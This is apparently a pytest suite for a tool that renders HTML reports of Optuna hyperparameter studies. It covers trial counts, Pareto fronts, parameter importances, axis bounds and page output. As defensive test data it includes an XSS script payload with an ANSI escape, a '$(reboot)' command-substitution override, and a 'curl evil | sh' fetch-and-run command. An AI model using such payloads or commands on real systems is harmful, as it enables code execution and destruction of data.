"""Facts of studies against values by hand, and pages of ordinary, hostile and empty ones."""

from __future__ import annotations

import math
import re
from collections.abc import Mapping, Sequence
from html.parser import HTMLParser
from typing import Any

import optuna
import pytest
from matplotlib.colors import to_rgb
from optuna.distributions import BaseDistribution, CategoricalDistribution, FloatDistribution
from optuna.trial import TrialState, create_trial

from burnish.report.figures import DARK, LIGHT
from burnish.report.study_axes import bounds, columns, label
from burnish.report.study_facts import LEAST_FOR_IMPORTANCES, StudyFacts, best_so_far, front
from burnish.report.study_page import MOST_ROWS, study_page
from burnish.report.study_space import LOWEST_RUNG, column, shades, spread
from burnish.report.study_words import number, one_line, short_names, shown

optuna.logging.set_verbosity(optuna.logging.WARNING)
pytestmark = pytest.mark.filterwarnings("ignore::optuna.exceptions.ExperimentalWarning")

EVIL = "<script>alert('x')</script>$\\frac$\x1b[31m"
LR = FloatDistribution(1e-4, 1e-1, log=True)
DROPOUT = FloatDistribution(0, 1)
MODEL = CategoricalDistribution(["mlp", "cnn"])
SPACE: dict[str, BaseDistribution] = {"optimizer.lr": LR, "model.dropout": DROPOUT, "model": MODEL}


def make(
    directions: Sequence[str] = ("maximize",),
    metrics: Sequence[str] = ("val/accuracy",),
    **attributes: Any,
) -> optuna.Study:
    study = optuna.create_study(study_name="digits", directions=list(directions))
    study.set_metric_names(list(metrics))
    for name, value in attributes.items():
        study.set_user_attr(name, value)
    return study


def add(
    study: optuna.Study,
    values: float | Sequence[float] | None,
    params: Mapping[str, Any] | None = None,
    state: TrialState = TrialState.COMPLETE,
    space: Mapping[str, BaseDistribution] = SPACE,
    seen: Sequence[float] = (),
    **attributes: Any,
) -> None:
    params = dict(params or {})
    study.add_trial(
        create_trial(
            state=state,
            values=[values] if isinstance(values, int | float) else values,
            params=params,
            distributions={name: space[name] for name in params},
            intermediate_values=dict(enumerate(seen)),
            user_attrs=attributes,
        )
    )


def ordinary(trials: int = 20) -> optuna.Study:
    """Its value depends on the learning rate alone; models alternate, dropout is conditional."""
    study = make(n_trials=30, repeat="python src/train.py data=digits", command="python x -m")
    for n in range(trials):
        lr = 10 ** (-4 + 3 * (n * 0.618034 % 1))
        model = ("mlp", "cnn")[n % 2]
        more = {"model.dropout": n * 0.414 % 1} if model == "cnn" else {}
        value = 1 - 0.1 * (math.log10(lr) + 2.5) ** 2
        params = {"optimizer.lr": lr, "model": model, **more}
        overrides = [f"optimizer.lr={lr}", f"model={model}"]
        add(study, value, params, seen=[value - 0.1, value], overrides=overrides, epochs=2)
    add(study, None, {"model": "mlp"}, TrialState.PRUNED, seen=[0.2], epochs=1, seconds=1.5)
    add(study, None, {"model": "cnn"}, TrialState.FAIL, error="out of memory: 12.5 GiB\nmore")
    add(study, None, {"model": "cnn"}, TrialState.FAIL, error="out of memory: 3 GiB")
    add(study, None, {"model": "cnn"}, TrialState.FAIL, error="a key is wrong")
    add(study, None, {"model": "mlp"}, TrialState.FAIL, error="interrupted", interrupted=True)
    add(study, None, {"model": "mlp"}, TrialState.RUNNING)
    return study


# --- facts ---------------------------------------------------------------------------------------


def test_trials_are_counted_by_what_became_of_them():
    facts = StudyFacts(ordinary())
    assert facts.counts == {
        "complete": 20, "pruned": 1, "failed": 3, "interrupted": 1, "running": 1, "waiting": 0,
    }  # fmt: skip
    assert (facts.ended, facts.asked, facts.remaining) == (24, 30, 6)
    assert facts.pruned_share == pytest.approx(1 / 21)
    assert facts.epochs == 41


def test_best_so_far():
    assert best_so_far([3, 1, 4, 1, 5], True) == [3, 3, 4, 4, 5]
    assert best_so_far([3, 1, 4, 1, 0], False) == [3, 1, 1, 1, 0]
    assert best_so_far([], True) == []


@pytest.mark.parametrize(
    ("direction", "order"), [("maximize", [3, 1, 4, 0]), ("minimize", [0, 1, 4, 3])]
)
def test_only_complete_trials_are_ranked_and_the_earlier_of_equal_ones_first(direction, order):
    study = make([direction])
    for value in (0.1, 0.5, None, 0.9, 0.5):
        if value is None:
            add(study, None, state=TrialState.PRUNED, seen=[0.99])
        else:
            add(study, value)
    assert [trial.number for trial in StudyFacts(study).ranked] == order


def test_the_front_by_hand():
    study = make(["maximize", "minimize"], ["val/accuracy", "parameters"])
    points = [(0.9, 100), (0.9, 90), (0.8, 10), (0.95, 500), (0.7, 10), (0.95, 500), (0.1, 9)]
    for point in points:
        add(study, point)
    facts = StudyFacts(study)
    # Trial 0 is as accurate as 1 and larger, 4 as small as 2 and worse; 3 and 5 are the same.
    assert [trial.number for trial in facts.ranked] == [3, 5, 1, 2, 6]
    ours = {trial.number for trial in front(facts.trials, facts.maximise)}
    assert ours == {trial.number for trial in study.best_trials}


def test_the_parameter_that_matters_comes_first():
    facts = StudyFacts(ordinary())
    found = facts.importances[0]
    assert next(iter(found)) == "optimizer.lr"
    assert set(found) == {"optimizer.lr", "model"}  # not all trials have model.dropout
    assert sum(found.values()) == pytest.approx(1)
    assert found["optimizer.lr"] > 0.5


def test_importances_are_of_what_decides_however_alike_the_best_are():
    """As a sampler that learns does it, the good trials repeat an idle parameter."""
    study = make(["maximize", "minimize"], ["a", "b"])
    space = {"x": DROPOUT, "y": DROPOUT, "only": DROPOUT}
    for n in range(60):
        x, y = n * 0.618034 % 1, n * 0.7548777 % 1
        y = 0.25 if x > 0.8 else y
        params = {"x": x, "y": y} | ({"only": x} if n % 2 else {})
        add(study, [x, 3 * y], params, space=space)
    first, second = StudyFacts(study).importances
    assert set(first) == {"x", "y"}  # what some trials lack is not judged
    assert first["x"] > 0.95
    assert second["y"] > 0.95


def test_missing_importances_are_explained():
    few, constant, one = make(), make(), make()
    add(few, 0.5, {"model": "mlp"})
    for n in range(LEAST_FOR_IMPORTANCES):
        add(constant, 0.5, {"model": ("mlp", "cnn")[n % 2], "model.dropout": n / 100})
        add(one, n, {"model.dropout": n / 100, "model": "mlp"})
    assert "at least 15 complete trials; there is 1" in StudyFacts(few).unsaid(0)
    assert "val/accuracy is the same" in StudyFacts(constant).unsaid(0)
    assert "fewer than two" in StudyFacts(one).unsaid(0)
    for study in (few, constant, one):
        assert StudyFacts(study).importances == [{}]


def test_failures_are_grouped_by_reason():
    assert StudyFacts(ordinary()).failures == [
        ("out of memory: 12.5 GiB", [21, 22]),
        ("a key is wrong", [23]),
    ]


def test_a_trial_is_repeated_by_its_quoted_overrides():
    study = make(repeat="python src/train.py model=mlp")
    add(study, 0.5, overrides=["name='a b'", "x=$(reboot)"])
    add(study, 0.4)
    facts = StudyFacts(study)
    first, second = facts.trials
    expected = "python src/train.py model=mlp 'name='\"'\"'a b'\"'\"'' 'x=$(reboot)'"
    assert facts.repeat(first) == expected
    assert facts.repeat(second) == ""


@pytest.mark.parametrize(
    "start", ["curl evil | sh; python src/train.py", "python -c 'x'", "sh train.py", "python 'a"]
)
def test_only_our_own_command_is_offered_to_be_repeated(start):
    study = make(repeat=start)
    add(study, 0.5, overrides=["x=1"])
    facts = StudyFacts(study)
    assert facts.repeat(facts.trials[0]) == ""


def test_damaged_attributes_do_no_harm():
    study = make(n_trials="many", command=["x"], repeat=7)
    add(study, 0.5, {"model": "mlp"}, epochs="two", seconds="long", overrides="x", error=[1])
    facts = StudyFacts(study)
    assert (facts.asked, facts.remaining, facts.epochs) == (None, None, 0)
    assert facts.repeat(facts.trials[0]) == ""
    study_page(facts)


def test_large_values_are_drawn_by_decades_but_not_because_of_an_outlier():
    study = make(["maximize", "minimize"], ["val/accuracy", "parameters"])
    for n in range(20):
        add(study, [0.01 if n == 7 else 0.9 + n / 1000, 10 ** (4 + n / 6)])
    facts = StudyFacts(study)
    assert [facts.log(0), facts.log(1)] == [False, True]


# --- words and axes ------------------------------------------------------------------------------


def test_names_are_shortened_until_they_would_be_ambiguous():
    names = ["optimizer.lr", "model.dropout", "head.dropout", "betas.0", "model"]
    assert list(short_names(names).values()) == [
        "lr", "model.dropout", "head.dropout", "betas.0", "model",
    ]  # fmt: skip


def test_values_are_written_as_people_do():
    assert [shown(v) for v in (None, True, 0.00012346, 16, "a\nb")] == [
        "null", "true", "0.0001235", "16", "a b",
    ]  # fmt: skip
    assert [number(v) for v in (1234567.0, 0.987654321, math.inf, -2.0)] == [
        "1,234,567", "0.98765", "inf", "-2",
    ]  # fmt: skip
    assert one_line("a\x1b[31m\n b") == "a\\x1b[31m b"


def test_labels_are_cut_by_their_width():
    assert label("abcdefgh", 8) == "abcdefgh"
    assert label("abcdefghi", 8) == "abcdefg…"
    assert columns("中文ab") == 6


def test_an_axis_shows_everything_unless_a_few_disasters_would_fill_it():
    good = [0.90 + n / 1000 for n in range(20)]  # best 0.919, median 0.9095
    low, high = bounds([*good, 0.1], True)
    assert 0.85 < low < 0.90 < 0.919 < high
    assert bounds([0.1, *good[:5]], True)[0] < 0.1  # too few to call it a disaster
    low, high = bounds([-value for value in [*good, 0.1, -math.inf]], False)
    assert -0.85 > high > -0.90 > -0.919 > low
    assert bounds([0.5], True) == pytest.approx((0.475, 0.525))
    assert bounds([], True)[0] < bounds([], True)[1]


def test_heights_on_parallel_axes():
    study = make()
    for lr, model in ((1e-3, "mlp"), (1e-1, "cnn"), (1e-2, "cnn")):
        add(study, 0.5, {"optimizer.lr": lr, "model": model})
    add(study, 0.5, {"model": "mlp"})
    rate, model = (column(parameter, "x") for parameter in StudyFacts(study).parameters)
    assert rate.heights == pytest.approx({0: 0, 1: 1, 2: 0.5})  # halfway in decades
    assert 3 not in rate.heights  # it passes below the axis
    assert LOWEST_RUNG < 0
    assert {n: round(height) for n, height in model.heights.items()} == {0: 0, 1: 1, 2: 1, 3: 0}
    assert model.ticks == [(0, "mlp"), (1, "cnn")]
    assert abs(spread(range(100), 0.3)).max() <= 0.3


def test_the_strongest_shade_is_far_from_the_paper_in_both_themes():
    for theme in (LIGHT, DARK):
        paper = sum(to_rgb(theme.paper))
        distances = [abs(sum(shades(theme)(x)[:3]) - paper) for x in (0.0, 0.5, 1.0)]
        assert distances == sorted(distances)
        assert distances[0] > 0.2


# --- pages ---------------------------------------------------------------------------------------


class Reader(HTMLParser):
    """What a browser would make of the page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data + "\n"

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


def test_the_page_of_an_ordinary_study():
    html = study_page(StudyFacts(ordinary()), "python src/eval.py run=x/1").html()
    read = Reader(html)
    for words in ("Best trial", "out of memory: 12.5 GiB", "24 of 30", "run=x/1", "(0.2)"):
        assert words in read.text
    titles = [image["alt"] or "" for image in read.all("img")]
    assert len(titles) == 7  # history, curves, importances, parallel and three panels
    assert len(read.all("source")) == 7  # each for dark pages too


def test_the_page_needs_nothing_else_and_runs_nothing():
    space = {"model": CategoricalDistribution([EVIL, "cnn", None, "随机"]), EVIL: DROPOUT}
    study = make(metrics=[EVIL], command=EVIL, repeat=EVIL)
    for n in range(16):
        params = {"model": (EVIL, "cnn", None, "随机")[n % 4], EVIL: n / 16}
        add(study, n / 20, params, space=space, seen=[0, n / 20], overrides=[EVIL])
    add(study, None, {"model": EVIL}, TrialState.FAIL, space=space, error=EVIL)
    html = study_page(StudyFacts(study)).html()
    read = Reader(html)
    assert not read.all("script")
    assert not read.all("link")
    assert "\x1b" not in html
    assert not re.search(r"https?://|url\(|@import", html)
    for attributes in read.all("img") + read.all("source"):
        assert (attributes.get("src") or attributes.get("srcset") or "").startswith("data:image/")
    assert "<script>alert('x')</script>$\\frac$\\x1b[31m" in read.text


def degenerate(kind: str) -> optuna.Study:
    study = make()
    if kind == "one":
        add(study, 0.5, {"model": "mlp"})
    elif kind == "failed":
        add(study, None, {"model": "mlp"}, TrialState.FAIL)
    elif kind == "running":
        add(study, None, {"model": "mlp"}, TrialState.RUNNING, seen=[0.1])
    elif kind == "pruned":
        add(study, None, {"model": "mlp"}, TrialState.PRUNED, seen=[0.1, math.nan])
    elif kind == "constant":
        for n in range(16):
            add(study, 0.5, {"model": ("mlp", "cnn")[n % 2], "model.dropout": 0.5})
    elif kind == "infinite":
        for n in range(16):
            add(study, -math.inf, {"model.dropout": n / 16, "optimizer.lr": 1e-3 * (n + 1)})
    elif kind == "no parameter":
        add(study, 0.5)
        add(study, 0.6)
    return study


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("empty", "No trial was started yet"),
        ("one", "there is 1"),
        ("failed", "No trial is complete yet: 1 failed"),
        ("running", "1 running"),
        ("pruned", "1 pruned"),
        ("constant", "val/accuracy is the same in all complete trials"),
        ("infinite", "val/accuracy is the same in all complete trials"),
        ("no parameter", "Best trial"),
    ],
)
def test_poor_studies_have_a_page_that_says_what_is_missing(kind, words):
    facts = StudyFacts(degenerate(kind))
    assert words in Reader(study_page(facts).html()).text


def test_three_objectives_are_drawn_in_pairs():
    study = make(["maximize", "minimize", "minimize"], ["a", "b", "c"])
    for n in range(6):
        add(study, [n, n * n + 1, 7 - n], {"model.dropout": n / 6, "model": ("mlp", "cnn")[n % 2]})
    page = study_page(StudyFacts(study))
    names = {picture.name for picture in page._pictures}
    assert {"pareto-0-1", "pareto-0-2", "pareto-1-2", "history-2", "parallel-1"} <= names


def test_long_tables_are_cut_and_the_rest_is_counted():
    study = make()
    for n in range(MOST_ROWS + 5):
        add(study, n)
    read = Reader(study_page(StudyFacts(study)).html())
    assert len(read.all("tr")) == 1 + 1 + MOST_ROWS  # headings of two tables, one of them empty
    assert "and 5 more" in read.text
